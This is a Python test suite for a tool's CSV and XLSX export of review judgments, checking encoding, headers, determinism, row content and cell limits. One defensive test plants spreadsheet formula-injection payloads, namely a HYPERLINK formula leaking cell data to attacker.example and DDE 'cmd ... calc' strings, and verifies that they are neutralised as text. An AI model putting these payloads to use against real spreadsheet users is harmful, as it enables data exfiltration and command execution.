"""Results out to spreadsheets: ``--format csv|xlsx`` of review, judge and chain give the flat table
of judgments, read back here by the standard library's csv module and by openpyxl."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import openpyxl
import pytest
import yaml
from example_system import EXAMPLE

from stocktake.core.workbook_out import table_csv, table_xlsx
from stocktake.judgment.table import COLUMNS

REVIEW = EXAMPLE / "capacity-review-2026.yaml"
ASSESSMENT = EXAMPLE / "assessment-2026-h2.yaml"
CHAIN = EXAMPLE / "chains" / "reading.yaml"
COMMANDS = {"review": REVIEW, "judge": ASSESSMENT, "chain": CHAIN}
PAYLOAD = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(path: Path) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    header, *rows = sheet.iter_rows(values_only=True)
    assert header == tuple(COLUMNS)
    return [{name: ("" if value is None else value) for name, value in zip(header, row, strict=True)} for row in rows]


def _write(run, tmp_path: Path, command: str, document: Path, suffix: str) -> bytes:
    out = tmp_path / f"out{suffix}"
    result = run(command, str(document), "-o", str(out))
    assert result.exit_code == 0, result.output
    return out.read_bytes()


def _json(run, command: str, document: Path) -> dict:
    result = run(command, str(document))
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_csv_is_utf8_with_a_bom_crlf_records_and_the_tables_header(run, tmp_path, command):
    data = _write(run, tmp_path, command, COMMANDS[command], ".csv")
    assert data.startswith(b"\xef\xbb\xbfsubject,aspect,code,title,")  # Excel reads UTF-8 only with the mark
    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b"")  # no bare line break in the demo
    header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert header == list(COLUMNS)


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_xlsx_holds_the_same_rows_as_csv_with_a_bold_frozen_header_and_text_as_text(run, tmp_path, command):
    from_csv = _csv_rows(_write(run, tmp_path, command, COMMANDS[command], ".csv"))
    _write(run, tmp_path, command, COMMANDS[command], ".xlsx")
    assert _xlsx_rows(tmp_path / "out.xlsx") == from_csv
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    assert sheet.title == "judgments" and sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.auto_filter.ref == f"A1:T{len(from_csv) + 1}"
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)
    widths = [sheet.column_dimensions[chr(ord("A") + i)].width for i in range(len(COLUMNS))]
    assert all(6 <= w <= 63 for w in widths), widths  # as wide as the text, never a screen wide


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_same_input_gives_the_same_bytes(run, tmp_path, command, suffix):
    first = _write(run, tmp_path, command, COMMANDS[command], suffix)
    assert _write(run, tmp_path, command, COMMANDS[command], suffix) == first


def test_review_rows_are_its_judgments_with_the_rubrics_codes_and_stages(run, tmp_path):
    rows = _csv_rows(_write(run, tmp_path, "review", REVIEW, ".csv"))
    judgments = _json(run, "review", REVIEW)["judgments"]
    assert [r["subject"] for r in rows] == [j["subject"] for j in judgments]
    assert {r["aspect"] for r in rows} == {"capacity"}
    first = rows[0]
    assert (first["code"], first["title"], first["parent"]) == ("1A", "Define the aspiration", "section:foundation")
    assert first["inputs"] == "du=G; leaders=G; owners=G; peer=G" and first["evidence"] == "interviews; plans"
    stage = next(r for r in rows if r["subject"] == "section:plan")
    assert (stage["code"], stage["parent"], stage["rule"]) == ("3", "", "roll-up/worst")
    agreed = next(r for r in rows if r["code"] == "5B")  # the example's one agreed judgment
    assert agreed["override"] == agreed["level"] == "R" and agreed["override_by"] == "du; peer; leaders"
    assert agreed["override_reason"].startswith("The team agreed")
    assert "overridden" in agreed["flags"].split("; ")


def test_judge_gives_a_likelihood_and_a_severity_row_per_priority(run, tmp_path):
    rows = _csv_rows(_write(run, tmp_path, "judge", ASSESSMENT, ".csv"))
    priorities = _json(run, "judge", ASSESSMENT)["priorities"]
    assert [(r["subject"], r["aspect"]) for r in rows] == [
        (f"priority:{p['id']}", aspect) for p in priorities for aspect in ("likelihood", "severity")]
    for r, p in zip(rows[::2], priorities, strict=True):
        assert (r["level"], r["scale"], r["decided_by"]) == (
            p["judgment"]["rating"], "delivery", "; ".join(p["judgment"]["decided_by"]))
    for r, p in zip(rows[1::2], priorities, strict=True):
        assert (r["level"], r["scale"], r["rule"]) == (p["severity"]["judgment"]["rating"], "severity",
                                                        "severity-default")


def test_chain_gives_its_judgment_then_a_row_per_finding(run, tmp_path):
    rows = _csv_rows(_write(run, tmp_path, "chain", CHAIN, ".csv"))
    result = _json(run, "chain", CHAIN)
    assert rows[0]["aspect"] == "chain" and rows[0]["level"] == result["judgment"]["rating"]
    assert rows[0]["parent"] == "priority:reading"
    findings = rows[1:]
    assert [(r["aspect"], r["code"], r["level"], r["because"]) for r in findings] == [
        ("finding", f"{f['detector']}/{f['code']}", f["level"], f["message"]) for f in result["findings"]]
    assert {r["subject"] for r in rows} == {"chain:reading-chain"}
    spof = next(r for r in findings if r["code"].endswith("/single-point-of-failure"))
    assert spof["inputs"] == "actor=north; link=dept->north" and spof["rule_plugin"] == "builtin-chain-detectors"
    noted = [f for f in result["findings"] if not f["caps"]]
    assert noted and sum(r["flags"] == "does-not-cap" for r in findings) == len(noted)


def _poisoned(tmp_path: Path) -> Path:
    """A copy of the example with formula payloads in text a user writes: an agreed judgment's
    reason and a priority's title, starting with each character a spreadsheet runs."""
    folder = tmp_path / "example"
    shutil.copytree(EXAMPLE, folder)
    review = yaml.safe_load((folder / REVIEW.name).read_text())
    review["judgments"][0]["reason"] = PAYLOAD
    (folder / REVIEW.name).write_text(yaml.safe_dump(review))
    assessment = yaml.safe_load((folder / ASSESSMENT.name).read_text())
    for priority, start in zip(assessment["priorities"], ("+", "-", "@"), strict=True):
        priority["title"] = f"{start}cmd|' /C calc'!A0"
    (folder / ASSESSMENT.name).write_text(yaml.safe_dump(assessment))
    return folder


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_text_a_spreadsheet_would_run_as_a_formula_arrives_as_text(run, tmp_path, suffix):
    folder = _poisoned(tmp_path)
    data = _write(run, tmp_path, "review", folder / REVIEW.name, suffix)
    rows = _csv_rows(data) if suffix == ".csv" else _xlsx_rows(tmp_path / "out.xlsx")
    # CSV: the apostrophe is in the text (a CSV has no other way to say "text"); XLSX: the text is
    # as written, stored as text, and quote-prefixed (Excel's own mark, not part of the value) so
    # that editing the cell does not make it a formula either.
    mark = "'" if suffix == ".csv" else ""
    agreed = next(r for r in rows if r["override_reason"])
    assert agreed["override_reason"] == mark + PAYLOAD
    _write(run, tmp_path, "judge", folder / ASSESSMENT.name, suffix)
    data = (tmp_path / f"out{suffix}").read_bytes()
    rows = _csv_rows(data) if suffix == ".csv" else _xlsx_rows(tmp_path / "out.xlsx")
    assert [r["title"] for r in rows[::2]] == [f"{mark}{s}cmd|' /C calc'!A0" for s in "+-@"]
    if suffix == ".xlsx":  # no formula anywhere in the workbook, and every formula-like text quote-prefixed
        sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
        assert risky and all(c.quotePrefix for c in risky)


def test_tabs_cr_and_control_characters_never_start_or_hide_in_a_cell():
    data = table_csv(["a", "b", "c"], [["\tsum", "\r=1+1", "bell\x07"]])
    assert _csv_rows(data) == [{"a": "'\tsum", "b": "\\r=1+1", "c": "bell\\x07"}]


def test_numbers_stay_numbers_and_only_text_is_neutralised(tmp_path):
    (tmp_path / "t.xlsx").write_bytes(table_xlsx(["n", "t"], [[-5, "-5"], [2.5, None]]))
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [[-5, "-5"], [2.5, None]]
    assert (sheet["A2"].quotePrefix, sheet["B2"].quotePrefix) == (False, True)
    assert _csv_rows(table_csv(["n", "t"], [[-5, "-5"]])) == [{"n": "-5", "t": "'-5"}]


def test_a_text_past_a_cells_limit_is_cut_saying_so(tmp_path):
    (tmp_path / "t.xlsx").write_bytes(table_xlsx(["t"], [["x" * 40_000]]))
    value = openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets[0]["A2"].value
    assert len(value) == 32_767 and value.endswith(" ... (40,000 characters)")


def test_a_criterion_row_names_its_component_as_parent(run, tmp_path):
    rubric = {"kind": "Rubric", "schema_version": 1, "id": "mini", "version": "1.0", "title": "Mini", "scale": "delivery",
              "sections": [{"id": "s1", "code": "1", "title": "Section one", "components": [
                  {"id": "c1", "code": "1A", "title": "Component one", "key_questions": ["Is it there?"],
                   "descriptors": {"G": "All there.", "R": "Nothing there."},
                   "criteria": [{"id": "k1", "title": "Criterion one", "key_questions": ["Is it?"],
                                 "descriptors": {"G": "Yes.", "R": "No."}}]}]}]}
    (tmp_path / "mini.yaml").write_text(yaml.safe_dump(rubric))
    review = {"kind": "CapacityReview", "schema_version": 1, "rubric": {"id": "mini", "version": "1.0"},
              "system": "S", "date": "2026-06-30", "reviewers": [{"id": "du", "name": "DU", "role": "delivery-unit"}],
              "ratings": [{"component": "k1", "reviewer": "du", "level": "AG"}]}
    (tmp_path / "review.yaml").write_text(yaml.safe_dump(review))
    out = tmp_path / "out.csv"
    result = run("--rubric-path", str(tmp_path / "mini.yaml"), "review", str(tmp_path / "review.yaml"), "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = {r["subject"]: r for r in _csv_rows(out.read_bytes())}
    assert rows["criterion:k1"]["parent"] == "component:c1" and rows["criterion:k1"]["level"] == "AG"
    assert (rows["component:c1"]["code"], rows["component:c1"]["parent"]) == ("1A", "section:s1")
